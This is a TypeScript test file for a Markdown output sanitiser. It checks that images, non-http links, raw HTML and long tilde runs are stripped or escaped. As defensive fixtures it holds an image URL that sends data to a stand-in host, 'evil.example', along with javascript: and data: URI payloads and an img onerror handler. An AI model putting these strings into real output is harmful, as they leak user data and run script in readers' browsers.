import assert from 'node:assert/strict';
import { describe, test } from 'node:test';
import { sanitiseOutput } from './sanitise-output.ts';

describe('sanitiseOutput', () => {
  test('when a draft holds images, then only their alt text stays (inline, titled, reference, nested in a link)', () => {
    assert.equal(
      sanitiseOutput('Hi ![logo](https://evil.example/?data=Ada%20Lovelace) there'),
      'Hi logo there',
    );
    assert.equal(sanitiseOutput('![a](<https://e/x y> "t")'), 'a');
    assert.equal(
      sanitiseOutput('![pixel][p]\n\n[p]: https://evil.example/p.gif'),
      'pixel\n\n[p]: https://evil.example/p.gif',
    );
    assert.equal(
      sanitiseOutput('[![badge](https://evil/b.svg)](https://ok.example)'),
      '[badge](https://ok.example)',
    );
    assert.equal(sanitiseOutput('![](https://evil/?q=(1))end'), 'end');
  });

  test('when links point anywhere but http(s) or mailto, then they become plain text', () => {
    assert.equal(sanitiseOutput('[click](javascript:alert(1))'), 'click');
    assert.equal(sanitiseOutput('[x](&#106;avascript:alert(1))'), 'x');
    assert.equal(sanitiseOutput('[x](data:text/html;base64,PHNjcmlwdD4=)'), 'x');
    assert.equal(sanitiseOutput('[notes](./relative)'), 'notes');
    assert.equal(sanitiseOutput('<javascript:alert(1)>'), 'javascript:alert(1)');
    assert.equal(sanitiseOutput('[r][bad]\n[bad]: javascript:alert(1)\nnext'), '[r][bad]\nnext');
    const good =
      '[site](https://ada.dev) [mail](mailto:ada@example.com) <https://ada.dev> [t](http://x.org "T")';
    assert.equal(sanitiseOutput(good), good);
  });

  test('when raw HTML appears, then tags and comments are removed and an unclosed tag is escaped', () => {
    assert.equal(
      sanitiseOutput('a <img src="https://evil/x.png" onerror="alert(1)"> b <!-- hidden --> c'),
      'a  b  c',
    );
    assert.equal(sanitiseOutput('<div onclick="x()">Hello</div>'), 'Hello');
    assert.equal(sanitiseOutput('<img src=x\n\nrest'), '&lt;img src=x\n\nrest');
    assert.equal(sanitiseOutput('5 < 6 and 3 > 2'), '5 < 6 and 3 > 2');
  });

  test('when code quotes markup, then code spans and fenced blocks are left as written', () => {
    const md =
      'Built `<Suspense>` boundaries and `![x](y)` docs.\n\n```html\n<img src="a.png">\n![x](https://e)\n```\n\nAfter ![i](https://evil)';
    assert.equal(
      sanitiseOutput(md),
      'Built `<Suspense>` boundaries and `![x](y)` docs.\n\n```html\n<img src="a.png">\n![x](https://e)\n```\n\nAfter i',
    );
  });

  test('when backticks do not form a code span, then what they surround is still sanitised', () => {
    assert.equal(sanitiseOutput('\\` ![x](https://evil) `'), '\\` x `');
    assert.equal(sanitiseOutput('` open\n\n![x](https://evil) `'), '` open\n\nx `');
  });

  test('when the draft is ordinary Markdown, then it is unchanged', () => {
    const md =
      '# Ada Lovelace\n\n- **Led** a team of 5 [engineers]\n- Cut costs by 30% (see [report](https://x.org/a_(b)))\n\n> Quote\n\n1. One\n2. Two\n';
    assert.equal(sanitiseOutput(md), md);
  });
});

describe('sanitiseOutput on hostile lines', () => {
  test(
    'when a line opens with a long run of tildes and ends in a backtick, then it stays prose, in linear time',
    { timeout: 30_000 },
    () => {
      const line = `${'~'.repeat(100_000)}\``;
      assert.equal(sanitiseOutput(line), line);
      assert.equal(
        sanitiseOutput(`~~~~${'~'.repeat(100_000)} js\n<b>x</b>\n~~~~`),
        `~~~~${'~'.repeat(100_000)} js\n<b>x</b>\n~~~~`,
      );
    },
  );
});
